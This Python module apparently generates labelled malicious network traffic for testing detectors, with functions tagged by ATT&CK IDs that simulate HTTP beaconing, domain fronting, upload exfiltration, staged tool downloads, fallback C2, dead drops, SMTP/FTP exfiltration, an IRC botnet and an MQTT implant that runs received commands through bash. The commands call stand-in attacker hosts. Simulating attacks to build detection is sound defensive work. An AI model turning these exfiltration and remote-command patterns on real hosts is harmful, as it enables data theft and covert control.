"""What goes on in HTTP besides the beat: encodings, uploads, tools, stages, fallbacks, dead drops."""
from engine import addresses as at
from engine.declaration import malicious
from engine.hosts import TOOLS
from engine.network import Network
from engine.services import BROWSER, CURL, bad_certificate, name_server, site_certificate, web

TO_BAD = f"c1>{at.BAD}:80/tcp"


@malicious("http-b64-cookie", "T1071.001 T1132.001", tools="curl", talks=TO_BAD, seconds=75)
def cookie(net: Network) -> None:
    """who the host is in base64 in a cookie, the task in base64 in the body"""
    web(net.inet, at.BAD, 80, options="--body base64")
    net.c1.every(2.5, 0.25, 20, lambda n, token: f"{CURL} -A '{BROWSER}' -b SESSIONID=$(echo id={token}host=ws-anna-seq={n} | base64 -w0) http://{at.BAD_NAME}/__utm.gif")


@malicious("http-host-fronting", "T1090.004 T1071.001", tools="curl", talks=TO_BAD, expects=["low"], seconds=75)
def fronting(net: Network) -> None:
    """the Host header names a site that lives elsewhere; the address is the team server's"""
    web(net.inet, at.BAD, 80, options="--body html")
    net.c1.every(2.5, 0.2, 20, lambda n, token: f"{CURL} -H 'Host: www.northwind.test' 'http://{at.BAD}/login?{token}'")


@malicious("tls-sni-mismatch", "T1090.004 T1573.002", tools="curl openssl", talks=f"c1>{at.BAD}:443/tcp", expects=["low"], seconds=75)
def sni(net: Network) -> None:
    """domain fronting's shape: the handshake names a content network, address and certificate are another's"""
    web(net.inet, at.BAD, 443, bad_certificate(net), "--body base64")
    front = "front.bluecdn.test"
    net.c1.every(2.5, 0.2, 20, lambda n, token: f"{CURL} -k --resolve {front}:443:{at.BAD} -H 'Host: {at.BAD_NAME}' https://{front}/x/{token}")


@malicious("http-post-exfil", "T1041 T1071.001", tools="curl", talks=TO_BAD, expects=["upload"], seconds=60)
def post(net: Network) -> None:
    """uploads: posts of 6 to 15 kB of data that do not compress, tiny answers"""
    web(net.inet, at.BAD, 80)
    send = f"{CURL} -X POST -H 'Content-Type: application/octet-stream' --data-binary @-"
    net.c1.every(2, 0.3, 18, lambda n, token: f"head -c {6000 + n * 977 % 9000} /dev/urandom | {send} http://{at.BAD_NAME}/up/{token}")


@malicious("http-post-chunks", "T1030 T1041", tools="curl", talks=TO_BAD, expects=["upload"], seconds=75)
def post_chunks(net: Network) -> None:
    """uploads in pieces of one size: 4096 bytes every 2 s"""
    web(net.inet, at.BAD, 80)
    net.c1.every(2, 0.05, 24, lambda n, token: f"head -c 4096 /dev/urandom | {CURL} -X POST --data-binary @- http://{at.BAD_NAME}/c/{n}")


@malicious("https-put-exfil", "T1041 T1048.002", tools="curl openssl", talks=f"c1>{at.BAD}:443/tcp", expects=["T1041"], seconds=60)
def put(net: Network) -> None:
    """some check-ins, then one HTTPS upload of 300 kB, then silence but for a few more"""
    web(net.inet, at.BAD, 443, bad_certificate(net))
    net.c1.every(3, 0.2, 5, lambda n, token: f"{CURL} https://{at.BAD_NAME}/t/{token}")
    net.c1.run(f"{CURL} --limit-rate 60k -T {net.material.blob('loot.zip', 300_000)} https://{at.BAD_NAME}/u/loot.zip")
    net.c1.every(3, 0.2, 3, lambda n, token: f"{CURL} https://{at.BAD_NAME}/t/{token}")


@malicious("http-ingress-tool", "T1105 T1571 T1071.001", tools="wget curl", talks=f"c1>{at.BAD}:8000/tcp c1>{at.BAD2}:8080/tcp", expects=["T1105"], seconds=60)
def tool(net: Network) -> None:
    """an ELF program fetched from a bare address on 8000 under a picture's name; then a beacon"""
    folder = net.work / "stage"
    folder.mkdir()
    (folder / "photo.jpg").write_bytes(b"\x7fELF\x02\x01\x01" + (net.work / net.material.blob("tool", 30000)).read_bytes())
    web(net.inet, at.BAD, 8000, options=f"--root {folder} --server 'SimpleHTTP/0.6 Python/3.11.2'")
    web(net.inet, at.BAD2, 8080)
    net.c1.run(f"wget -q -O /tmp/x http://{at.BAD}:8000/photo.jpg")
    net.sleep(3)
    net.c1.every(2.5, 0.1, 12, f"{CURL} http://{at.BAD2}:8080/r")


@malicious("tool-transfer-raw-tcp", "T1105 T1095", tools="ncat", talks=f"c1>{at.BAD}:6969/tcp", expects=["T1105"], seconds=25)
def raw_tool(net: Network) -> None:
    """a program comes down a raw TCP connection, as stagers without HTTP fetch it"""
    stage = net.material.blob("stage", 40000, start=b"\x7fELF\x02\x01\x01" + bytes(9))
    net.inet.start(f"ncat -l {at.BAD} 6969 --send-only -i 5 < {stage}", listens="6969/tcp")
    net.c1.run(f"ncat --recv-only {at.BAD} 6969 > /tmp/x")
    net.sleep(5)


@malicious("multi-stage", "T1104 T1105 T1102.001", tools="curl", talks=f"{TO_BAD} c1>{at.OK}.35:443/tcp c1>{at.BAD2}:443/tcp", expects=["T1104"], seconds=80)
def stages(net: Network) -> None:
    """stage one over HTTP on one host, the address of the next from a paste site, then a beacon to another host"""
    web(net.inet, at.BAD, 80, options=f"--root {net.material.website()}")
    web(net.inet, f"{at.OK}.35", 443, site_certificate(net), "--body base64")
    web(net.inet, at.BAD2, 443, bad_certificate(net), "--body base64")
    for url, pause in ((f"http://{at.BAD_NAME}/feed.xml", 3), (f"http://{at.BAD_NAME}/stage2.bin", 4), ("https://paste.snips.test/raw/Zk3q9", 3)):
        net.c1.run(f"{CURL} {url}")
        net.sleep(pause)
    net.c1.every(3, 0.2, 16, lambda n, token: f"{CURL} https://{at.BAD2_NAME}/s/{token}")


@malicious("fallback-channels", "T1008 T1071.001 T1071.004", tools="curl bind9-dnsutils", talks=f"c1>{at.BAD}:443/tcp c1>{at.BAD2}:8080/tcp c1>gw:53/udp", expects=["T1008"], seconds=110)
def fallback(net: Network) -> None:
    """HTTPS until its server dies, then a name that does not exist, then another host on 8080; when that dies too, DNS"""
    first = web(net.inet, at.BAD, 443, bad_certificate(net))
    net.c1.every(3, 0.2, 8, lambda n, token: f"{CURL} https://{at.BAD_NAME}/p/{token}")
    first.stop()
    second = web(net.inet, at.BAD2, 8080)
    https, name, http = (f"{CURL} {url}" for url in (f"https://{at.BAD_NAME}/p/", "http://backup7.quietriver-alt.test/p/", f"http://{at.BAD2}:8080/p/"))
    net.c1.every(3, 0.2, 7, lambda n, token: f"{https}{token} || {name}{token} || {http}{token}")
    second.stop()
    name_server(net, f"{at.ZONE}=txt:20:60")
    net.c1.every(3, 0.2, 7, lambda n, token: f"{https}{token} || {http}{token} || dig +short TXT {token}.{at.ZONE}")


@malicious("fallback-dead-c2", "T1008 T1071.001", tools="curl", talks=TO_BAD, expects=["T1008"], seconds=100)
def dead(net: Network) -> None:
    """three servers that do not answer are tried in turn, again and again; at last one answers"""
    net.inet.quietly("ip route del local 203.0.113.0/24; ip route add local 203.0.113.0/25 dev lo; ip route add blackhole 203.0.113.128/25")
    net.gw.quietly("ip route add blackhole 203.0.113.128/25")
    tries = [f"{CURL} -m 2 {url}" for url in ("http://203.0.113.201/", "http://203.0.113.202:8080/", "https://203.0.113.203/")]
    net.c1.every(1.5, 0.3, 6, "; ".join(tries))
    web(net.inet, at.BAD, 80)
    net.c1.every(3, 0.3, 8, lambda n, token: f"{CURL} http://{at.BAD}/{token}")


@malicious("deaddrop-resolver", "T1102.001 T1102.002", tools="curl ncat", talks=f"c1>{at.OK}.35:443/tcp c1>{at.BAD2}:1337/tcp", expects=["low"], seconds=75)
def dead_drop(net: Network) -> None:
    """a paste site is polled over HTTPS for an address, then a raw TCP check-in goes there"""
    web(net.inet, f"{at.OK}.35", 443, site_certificate(net), "--body html")
    net.inet.start(f"ncat -lk {at.BAD2} 1337 -e /bin/cat", listens="1337/tcp")
    net.c1.every(3, 0.2, 12, lambda n, token: f"{CURL} https://paste.snips.test/u/qk2/{n} && echo {token}{token} | ncat -w 1 {at.BAD2} 1337")


@malicious("smtp-exfil", "T1071.003 T1048.003", tools="swaks", talks=f"c1>{at.BAD}:25/tcp", expects=["low"], seconds=60)
def mail(net: Network) -> None:
    """mails with attachments, straight from a workstation to an outside server"""
    net.inet.start(f"python3 {TOOLS}/mail_server.py {at.BAD} 25", listens="25/tcp")
    loot = net.material.blob("report.dat", 7000)
    words = f"swaks --silent 3 --server {at.BAD}:25 --to box@harborlight.test --attach-type application/octet-stream --attach @{loot}"
    net.c1.every(4, 0.3, 6, lambda n, token: f"{words} --from a{n}@harborlight.test --header 'Subject: {token}'")


@malicious("ftp-c2-exfil", "T1071.002 T1048.003", tools="vsftpd curl", talks=f"c1>{at.BAD}:2121/tcp", expects=["T1571"], seconds=60)
def ftp(net: Network) -> None:
    """FTP check-ins every 4 s on port 2121, then loot is stored"""
    net.inet.run("mkdir -p /run/vsftpd/empty /tmp/ftp/up; chmod 777 /tmp/ftp/up", note=False)
    config = net.path("vsftpd.conf", f"listen=YES\nlisten_port=2121\nlisten_address={at.BAD}\nanonymous_enable=YES\nanon_root=/tmp/ftp\nwrite_enable=YES\nanon_upload_enable=YES\n"
                      f"no_anon_password=YES\nseccomp_sandbox=NO\nsecure_chroot_dir=/run/vsftpd/empty\nftp_username=bin\npasv_address={at.BAD}\nbackground=NO\nsession_support=NO\n")  # fmt: skip
    net.inet.start(f"vsftpd {config}", listens="2121/tcp")
    net.c1.every(4, 0.2, 6, f"curl -s -m 10 -o /dev/null ftp://{at.BAD}:2121/")
    net.c1.run(f"curl -s -m 30 -T {net.material.blob('loot.7z', 50000)} ftp://{at.BAD}:2121/up/")


@malicious("irc-bot", "T1071 T1571", tools="ngircd", talks=f"c1>{at.BAD}:6667/tcp c2>{at.BAD}:6667/tcp", hosts="c1 c2", expects=["low"], seconds=80)
def irc(net: Network) -> None:
    """IRC on 6667: two bots in a channel, the operator's !commands, their answers"""
    config = net.path("ngircd.conf", f"[Global]\nName = irc.openchat.test\nInfo = chat\nPorts = 6667\nListen = {at.BAD}\nMotdPhrase = hi\nServerUID = root\nServerGID = root\n"
                      "[Limits]\nPingTimeout = 15\n[Options]\nPAM = no\nDNS = no\nIdent = no\n")  # fmt: skip
    net.inet.start(f"ngircd -n -f {config}", listens="6667/tcp")
    bot = f"python3 {TOOLS}/irc_client.py {at.BAD} '#upd8' --seconds 60"
    net.c1.start(f"{bot} --nick xX4821 --role bot")
    net.c2.start(f"{bot} --nick xX9917 --role bot")
    net.inet.run(f"{bot} --nick boss --role operator")


@malicious("mqtt-c2", "T1071.005 T1571", tools="mosquitto mosquitto-clients", talks=f"c1>{at.BAD}:1883/tcp", expects=["low"], seconds=65)
def mqtt(net: Network) -> None:
    """MQTT on 1883: the client subscribes to its commands and publishes what they print"""
    config = net.path("mosquitto.conf", f"listener 1883 {at.BAD}\nallow_anonymous true\n")
    net.inet.start(f"mosquitto -c {config}", listens="1883/tcp")
    implant = net.path("implant.sh", f"mosquitto_sub -h {at.BAD} -k 10 -i a7f3 -t cmd/a7f3 | while read -r line; do bash -c \"$line\" 2>&1 | base64 -w0 | mosquitto_pub -h {at.BAD} -t out/a7f3 -l; done\n")
    net.c1.start(f"bash {implant}", settle=2)
    tasks = ["id", "hostname", "ls /usr/share | head -20", "cat /etc/os-release", "ip addr"]
    net.inet.every(8, 0.3, len(tasks), lambda n, _: f"mosquitto_pub -h {at.BAD} -t cmd/a7f3 -m '{tasks[n]}'")
    net.sleep(12)
